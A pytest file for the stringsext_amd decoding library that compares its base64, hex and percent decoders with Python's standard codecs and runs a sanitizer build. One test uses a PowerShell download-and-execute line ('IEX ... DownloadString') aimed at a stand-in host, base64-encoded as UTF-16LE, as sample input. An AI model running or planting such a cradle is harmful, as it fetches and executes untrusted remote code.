"""The decoders of base64, hex and percent strings: the lane functions of stringsext_amd/csrc/sx_decode_core.hpp as the library runs
them on the host, through sx_decode_bytes (stringsext_amd.decode), against decode_plant.decode() — the conditions of
include/stringsext_amd.h, then Python's base64, binascii, urllib.parse and codecs for the bytes.  No expected value comes from the code
under test.  The same lane functions run once more as a program of their own under the address and undefined-behaviour sanitizers
(tests/native/decode_core_host.cpp), every input and output in an allocation that ends where it ends."""
import base64
import binascii
import ctypes as C
import itertools
import os
import struct
import subprocess

import pytest

import decode_plant as dp
import stringsext_amd as sx

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
NATIVE = os.path.join(ROOT, "tests", "native")
CSRC = os.path.join(ROOT, "stringsext_amd", "csrc")
DEPS = [os.path.join(NATIVE, "decode_core_host.cpp"), os.path.join(ROOT, "include", "stringsext_amd.h")] + [
    os.path.join(CSRC, f) for f in ("sx_decode_core.hpp", "sx_select_core.hpp")]
ALL = [(kind, flags) for kind in (dp.BASE64, dp.HEX, dp.PERCENT) for flags in (0, dp.UTF16LE)]
ALPHABET = b"ABab09+/-_=%fF "


@pytest.fixture(scope="module")
def decode_one():
    """(kind, flags, bytes) -> (bytes, word) through sx_decode_bytes, one call into a buffer kept for the module"""
    L = sx.lib()
    out, n, word = C.create_string_buffer(256), C.c_uint64(), C.c_uint64()

    def call(kind, flags, b):
        rc = L.sx_decode_bytes(kind, flags, b, len(b), out, 256, C.byref(n), C.byref(word))
        assert rc == sx.SX_OK, (rc, kind, flags, b)
        return out.raw[:n.value], word.value
    return call


def test_the_constants_and_the_exports():
    assert (sx.SX_DECODE_BASE64, sx.SX_DECODE_HEX, sx.SX_DECODE_PERCENT, sx.SX_DECODE_UTF16LE) == (dp.BASE64, dp.HEX, dp.PERCENT, dp.UTF16LE)
    assert (sx.SX_DECODE_OK, sx.SX_DECODE_TEXT, sx.SX_DECODE_WIDE, sx.SX_DECODE_PADDED, sx.SX_DECODE_URLSAFE, sx.SX_DECODE_LEN_SHIFT) == (
        dp.OK, dp.TEXT, dp.WIDE, dp.PADDED, dp.URLSAFE, dp.LEN_SHIFT) == (1, 2, 4, 8, 16, 32)
    assert sx.DECODE_KINDS == dp.KINDS and {"sx_decode_bytes", "sx_result_decode_device"} <= set(sx.EXPORTS)
    assert sx.lib().sx_abi_version() == sx.ABI_VERSION == 4                        # an added function: the number stays
    assert C.sizeof(sx.DecodeInfo) == 48 and [f for f, _ in sx.DecodeInfo._fields_] == ["findings", "decoded", "text", "wide", "bytes_in", "bytes_out"]
    with pytest.raises(ValueError):
        sx.decode("base32", b"ME======")


@pytest.mark.parametrize("kind,flags", ALL)
def test_every_string_of_up_to_five_bytes_over_the_alphabet(decode_one, kind, flags):
    bad, n = [], 0
    for length in range(6):
        for t in itertools.product(ALPHABET, repeat=length):
            s = bytes(t)
            n += 1
            if decode_one(kind, flags, s) != dp.decode(kind, flags, s):
                bad.append(s)
    assert n == sum(15 ** k for k in range(6)) and not bad, (len(bad), bad[:20])


VALID = {dp.BASE64: b"QUJDREVG", dp.HEX: b"4a4B6c6D", dp.PERCENT: b"ab%41%4a"}


@pytest.mark.parametrize("kind,flags", ALL)
def test_every_byte_value_at_every_place_of_a_valid_string(decode_one, kind, flags):
    s = VALID[kind]
    assert dp.decode(kind, 0, s)[1] & dp.OK and len(s) == 8
    bad = []
    for at in range(8):
        for b in range(256):
            x = s[:at] + bytes((b,)) + s[at + 1:]
            if decode_one(kind, flags, x) != dp.decode(kind, flags, x):
                bad.append(x)
    assert not bad, (len(bad), bad[:20])


def units_hex(*units):
    return binascii.hexlify(struct.pack("<%dH" % len(units), *units))


def test_every_utf16_unit_singly_and_every_surrogate_boundary_pair_through_hex(decode_one):
    bad = []
    for u in range(0x10000):
        s = units_hex(u)
        if decode_one(dp.HEX, dp.UTF16LE, s) != dp.decode(dp.HEX, dp.UTF16LE, s):
            bad.append(s)
    assert not bad, (len(bad), bad[:20])
    assert decode_one(dp.HEX, dp.UTF16LE, units_hex(0xD800)) == (b"00d8", 0) and decode_one(dp.HEX, dp.UTF16LE, units_hex(0xDC00)) == (b"00dc", 0)
    assert decode_one(dp.HEX, dp.UTF16LE, units_hex(0xFEFF)) == ("\ufeff".encode(), dp.OK | 3 << 32)          # a BOM is a character
    # (high, low), (high, non-low), (low, anything): the edges of both ranges and what lies next to them, and a third unit behind
    high, low = (0xD800, 0xD801, 0xDBFE, 0xDBFF), (0xDC00, 0xDC01, 0xDFFE, 0xDFFF)
    other = (0x0000, 0x0041, 0x007F, 0x0080, 0x07FF, 0x0800, 0xD7FF, 0xE000, 0xFEFF, 0xFFFF)
    pairs = [(h, x) for h in high for x in low + other + high] + [(x, y) for x in low for y in low + other + high]
    pairs += [(x, h) for x in other for h in high + low]
    cases = [p for p in pairs] + [p + (t,) for p in pairs for t in (0x0041, 0xDC00, 0xD800)] + [(0x0041,) + p for p in pairs]
    good = 0
    for units in cases:
        s = units_hex(*units)
        want = dp.decode(dp.HEX, dp.UTF16LE, s)
        good += want[1] & dp.OK
        if decode_one(dp.HEX, dp.UTF16LE, s) != want:
            bad.append(s)
    assert not bad and 16 * 3 <= good < len(cases), (len(bad), bad[:20], good)
    assert decode_one(dp.HEX, dp.UTF16LE, units_hex(0xD83D, 0xDE00)) == ("\U0001F600".encode(), dp.OK | 4 << 32)
    assert decode_one(dp.HEX, dp.UTF16LE, units_hex(0xDBFF, 0xDFFF))[0] == "\U0010FFFF".encode()


def test_the_size_query_a_capacity_one_too_small_a_null_word_and_unknown_arguments():
    L = sx.lib()
    s = b"%e2%82%ac%20euro"                      # 8 raw bytes, 4 units, three bytes of UTF-8 each
    want, word = dp.decode(dp.PERCENT, dp.UTF16LE, s)
    assert word & dp.OK and len(want) == 12
    n, w = C.c_uint64(77), C.c_uint64(77)
    assert L.sx_decode_bytes(dp.PERCENT, dp.UTF16LE, s, len(s), None, 0, C.byref(n), C.byref(w)) == sx.SX_OK and (n.value, w.value) == (12, word)
    out = C.create_string_buffer(b"\xEE" * 64, 64)
    n, w = C.c_uint64(77), C.c_uint64(77)
    assert L.sx_decode_bytes(dp.PERCENT, dp.UTF16LE, s, len(s), out, 11, C.byref(n), C.byref(w)) == sx.SX_E_INVALID
    assert n.value == 12 and out.raw == b"\xEE" * 64                               # refused: what is needed, and nothing written
    assert L.sx_decode_bytes(dp.PERCENT, dp.UTF16LE, s, len(s), out, 12, C.byref(n), None) == sx.SX_OK          # a NULL word
    assert n.value == 12 and out.raw[:12] == want and out.raw[12:] == b"\xEE" * 52                              # nothing behind cap
    # a string that does not decode is no error: the source, copied, and the word 0 — by the same protocol
    bad = b"hello"
    out = C.create_string_buffer(b"\xEE" * 64, 64)
    n, w = C.c_uint64(77), C.c_uint64(77)
    assert L.sx_decode_bytes(dp.BASE64, 0, bad, 5, None, 0, C.byref(n), C.byref(w)) == sx.SX_OK and (n.value, w.value) == (5, 0)
    assert L.sx_decode_bytes(dp.BASE64, 0, bad, 5, out, 4, C.byref(n), C.byref(w)) == sx.SX_E_INVALID and n.value == 5 and out.raw == b"\xEE" * 64
    assert L.sx_decode_bytes(dp.BASE64, 0, bad, 5, out, 5, C.byref(n), C.byref(w)) == sx.SX_OK and out.raw == b"hello" + b"\xEE" * 59 and w.value == 0
    # an output LONGER than its source: bytes that are copied, two of them a unit, three bytes of UTF-8 a unit
    grows = b"%41" + "中".encode() * 5
    want = dp.decode(dp.PERCENT, dp.UTF16LE, grows)
    assert len(grows) == 18 and want[1] == dp.OK | 24 << 32 and sx.decode("percent", grows, True) == want
    assert sx.decode("hex", b"e4b8e4b8e4b8", True) == (b"\xeb\xa3\xa4" * 3, dp.OK | 9 << 32)
    # unknown kinds and flags, NULL pointers
    n = C.c_uint64(77)
    for kind, flags in ((0, 0), (4, 0), (dp.BASE64, 2), (dp.HEX, 3), (dp.PERCENT, 0x80000000), (0xFFFFFFFF, 0)):
        assert L.sx_decode_bytes(kind, flags, s, len(s), out, 64, C.byref(n), C.byref(w)) == sx.SX_E_INVALID and n.value == 0 and w.value == 0
    assert L.sx_decode_bytes(dp.HEX, 0, s, len(s), out, 64, None, C.byref(w)) == sx.SX_E_INVALID
    assert L.sx_decode_bytes(dp.HEX, 0, None, 4, out, 64, C.byref(n), C.byref(w)) == sx.SX_E_INVALID
    assert L.sx_decode_bytes(dp.HEX, 0, None, 0, out, 64, C.byref(n), C.byref(w)) == sx.SX_OK and (n.value, w.value) == (0, 0)
    assert L.sx_decode_bytes(dp.HEX, 0, s, 1 << 32, out, 64, C.byref(n), C.byref(w)) == sx.SX_E_INVALID
    assert sx.decode("base64", b"") == (b"", 0) and sx.decode("hex", b"") == (b"", 0) and sx.decode("percent", b"") == (b"", 0)


def test_long_strings_and_the_idiom_of_the_docstring():
    cmd = "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"
    enc = base64.b64encode(cmd.encode("utf-16-le"))
    raw, w = sx.decode("base64", enc)
    assert w & sx.SX_DECODE_WIDE and not w & sx.SX_DECODE_TEXT and raw == cmd.encode("utf-16-le")
    out, w = sx.decode("base64", enc, utf16le=True)
    assert out == cmd.encode() and w & sx.SX_DECODE_TEXT and w >> sx.SX_DECODE_LEN_SHIFT == len(cmd)
    every = bytes(range(256)) * 40
    for s in (base64.b64encode(every), base64.urlsafe_b64encode(every).rstrip(b"="), binascii.hexlify(every), b"".join(b"%%%02X" % b for b in every)):
        for kind, flags in ALL:
            assert sx.decode({v: k for k, v in dp.KINDS.items()}[kind], s, bool(flags)) == dp.decode(kind, flags, s), (kind, flags, s[:16])


# ---- the same lane functions under the address and undefined-behaviour sanitizers, as a program of their own

def test_a_sanitizer_build_decodes_the_same():
    exe, src = os.path.join(NATIVE, "decode_core_main"), os.path.join(NATIVE, "decode_core_host.cpp")
    if not os.path.exists(exe) or os.path.getmtime(exe) < max(os.path.getmtime(f) for f in DEPS):
        tmp = f"{exe}.{os.getpid()}.tmp"
        subprocess.check_call(["g++", "-std=c++17", "-Wall", "-Wno-unknown-pragmas", "-O1", "-g", "-fsanitize=address,undefined", "-fno-sanitize-recover=all", "-o", tmp, src])
        os.replace(tmp, exe)
    out = subprocess.run([exe], capture_output=True, text=True)
    assert out.returncode == 0 and out.stdout.startswith("decode core: ok"), (out.stdout[-500:], out.stderr[-2000:])
